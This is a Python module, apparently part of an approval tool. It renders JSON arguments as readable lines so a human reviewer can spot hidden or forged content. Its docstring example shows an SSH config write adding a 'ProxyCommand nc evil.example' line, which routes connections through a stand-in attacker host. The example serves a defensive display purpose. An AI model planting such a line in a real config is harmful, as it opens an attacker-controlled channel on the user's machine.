"""Arguments as lines of text that a person can read and nobody can forge: JSON values in, `Line`s out. Pure.

One line a value, labels of one object aligned, nested values indented; strings stand in “quotes”, so "5" is not 5. What
the sender wrote is made visible and can never begin a line of its own: a text's second and further lines hang below
its first behind a bar, and a label that is no plain word is quoted.

    path     “/home/ana/.ssh/config”
    content  “Host *␊
             │  ProxyCommand nc evil.example 22␊
             │”
    options  2 fields
      mode   420
      tags   [“a”, “b”]

The work is bounded whatever is sent: beyond `MOST_LINES` lines a value goes on in one long line, still in full. No
recursion, so depth does no harm.
"""

import json
import re
import unicodedata
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from approver.visible import make_visible

Translate = Callable[[str, str], str]

MOST_LINES = 4000
LONGEST_LABEL = 24
LONGEST_LIST = 60
DEEPEST_INDENT = 16
NEWLINE_MARK = "␊"
BAR = "│"
MARK = re.compile(r"⟨U\+[0-9A-F]{4,6}⟩|[␀-␉␋-␟␡]")
"""How `make_visible` shows what cannot be seen; nobody else can write these. A newline's is not among them."""
TALLEST_TOWER = 4
"""Accents on one letter; more would reach over the lines above and below."""

_PLAIN_LABEL = re.compile(r"[A-Za-z_$][\w.$\-]*", re.ASCII)


@dataclass(frozen=True, slots=True)
class Line:
    """A line, and the column where its value begins and where its overlong rest is to hang."""

    text: str
    hang: int


def visible(text: str) -> str:
    """The text on one line, everything that cannot be seen or that hides its neighbours shown as a mark."""
    return _without_towers(make_visible(text))


class _Accents(dict[int, int]):
    """What `str.translate` asks: accents become one character, everything else stays. Remembers its answers."""

    def __missing__(self, code: int) -> int:
        is_accent = unicodedata.category(chr(code)) in ("Mn", "Me")
        self[code] = ord(_ACCENT) if is_accent else code
        return self[code]


_ACCENT = "\0"
_TOWER = re.compile(f"{_ACCENT}{{{TALLEST_TOWER + 1},}}")
_MAYBE_TOWER = re.compile(f"[\u0300-\U0010ffff]{{{TALLEST_TOWER + 1}}}")
"""No accent stands before U+0300. Asked first, because it is quick."""
_accents = _Accents()


def _without_towers(text: str) -> str:
    """Visible text whose letters carry few accents; what is too much stands beside them, as marks."""
    if text.isascii() or not _MAYBE_TOWER.search(text):
        return text
    pieces, end = [], 0
    for tower in _TOWER.finditer(text.translate(_accents)):
        cut = tower.start() + TALLEST_TOWER
        pieces.append(text[end:cut])
        pieces.extend(f"⟨U+{ord(accent):04X}⟩" for accent in text[cut : tower.end()])
        end = tower.end()
    return "".join((*pieces, text[end:]))


def _untranslated(context: str, text: str) -> str:
    return text


def outline(value: Mapping[str, Any], translate: Translate = _untranslated) -> tuple[Line, ...]:
    """The members of an object, line by line, in the order they were sent."""
    lines: list[Line] = []
    if len(value) > MOST_LINES:
        return (Line(compact(value), 0),)
    waiting = _members(value, 0)
    while waiting:
        entry = waiting.pop()
        room = MOST_LINES - len(lines) - len(waiting)
        if isinstance(entry.value, str):
            lines.extend(_text_lines(entry, room))
        elif _opens(entry.value, room):
            lines.extend(_labelled(entry, [_summary(entry.value, translate)]))
            waiting.extend(_members(entry.value, entry.depth + 1))
        else:
            lines.extend(_labelled(entry, [compact(entry.value)]))
    return tuple(lines)


def compact(value: Any) -> str:
    """Any JSON value on one line, however deep it is."""
    pieces: list[str] = []
    inside: list[Iterator[tuple[str, Any]]] = [iter([("", value)])]
    closing = [""]
    while inside:
        for start, item in inside[-1]:
            pieces.append(start)
            if _is_container(item):
                is_object = isinstance(item, Mapping)
                pieces.append("{" if is_object else "[")
                inside.append(_separated(item))
                closing.append("}" if is_object else "]")
                break
            pieces.append(_scalar(item))
        else:
            inside.pop()
            pieces.append(closing.pop())
    return "".join(pieces)


def _separated(container: Mapping[str, Any] | Sequence[Any]) -> Iterator[tuple[str, Any]]:
    """Each member with what stands before it: a comma, a label."""
    comma = ""
    if isinstance(container, Mapping):
        for key, item in container.items():
            yield f"{comma}{_label(str(key))}: ", item
            comma = ", "
    else:
        for item in container:
            yield comma, item
            comma = ", "


@dataclass(frozen=True, slots=True)
class _Entry:
    """A value that waits for its line."""

    label: str
    value: Any
    depth: int
    width: int
    """The column width that the labels around it share."""


def _is_container(value: Any) -> bool:
    return isinstance(value, (dict, list, tuple, Mapping))  # the quick ones first: this is asked for every value


def _members(value: Mapping[str, Any] | Sequence[Any], depth: int) -> list[_Entry]:
    """The entries of an object or a list, last first: a stack's order."""
    if isinstance(value, Mapping):
        named = [(_label(str(key)), item) for key, item in value.items()]
    else:
        named = [(f"{number}.", item) for number, item in enumerate(value, start=1)]
    width = max((len(label) for label, _ in named if len(label) <= LONGEST_LABEL), default=0)
    return [_Entry(label, item, depth, width) for label, item in reversed(named)]


def _label(key: str) -> str:
    return key if _PLAIN_LABEL.fullmatch(key) else f"“{visible(key)}”"


def _labelled(entry: _Entry, texts: Sequence[str]) -> list[Line]:
    """The value's lines behind its label; an overlong label has a line to itself."""
    indent = _indent(entry.depth)
    if len(entry.label) > LONGEST_LABEL:
        hang = len(indent) + 2
        first = [Line(indent + entry.label, hang), Line(" " * hang + texts[0], hang)]
    else:
        hang = len(indent) + entry.width + 2
        first = [Line(f"{indent}{entry.label.ljust(entry.width)}  {texts[0]}", hang)]
    return first + [Line(f"{' ' * hang}{BAR}{text}", hang) for text in texts[1:]]


def _indent(depth: int) -> str:
    """Two spaces a level; far down the number of the level stands for them."""
    return "  " * depth if depth <= DEEPEST_INDENT else f"{'  ' * DEEPEST_INDENT}(level {depth}) "


def _text_lines(entry: _Entry, room: int) -> list[Line]:
    pieces = entry.value.split("\n", max(room, 1) - 1)
    shown = [visible(piece) for piece in pieces]
    texts = [f"{piece}{NEWLINE_MARK}" for piece in shown[:-1]] + [shown[-1]]
    return _labelled(entry, [f"“{texts[0]}", *texts[1:-1], f"{texts[-1]}”"] if len(texts) > 1 else [f"“{texts[0]}”"])


def _opens(value: Any, room: int) -> bool:
    """Whether it is shown over several lines."""
    return _is_container(value) and 0 < len(value) <= room and not _fits_on_a_line(value)


def _fits_on_a_line(value: Any) -> bool:
    """Whether it is a short list of plain values."""
    if isinstance(value, Mapping) or len(value) > LONGEST_LIST // 2 or any(_is_container(item) for item in value):
        return False
    return sum(len(item) if isinstance(item, str) else 8 for item in value) <= LONGEST_LIST


def _summary(value: Mapping[str, Any] | Sequence[Any], translate: Translate) -> str:
    count = len(value)
    if isinstance(value, Mapping):
        words = translate("Outline", "1 field") if count == 1 else translate("Outline", "{count} fields")
    else:
        words = translate("Outline", "1 item") if count == 1 else translate("Outline", "{count} items")
    return words.format(count=f"{count:,}")


def _scalar(value: Any) -> str:
    if isinstance(value, str):
        # with company on its line, a text that holds such quotes itself could feign another value
        feigns = "“" in value or "”" in value
        return json.dumps(visible(value), ensure_ascii=False) if feigns else f"“{visible(value)}”"
    if value is None or isinstance(value, bool):
        return {None: "null", True: "true", False: "false"}[value]
    try:
        return repr(value)
    except ValueError:  # Python refuses to write integers of thousands of digits in decimal
        return hex(value)
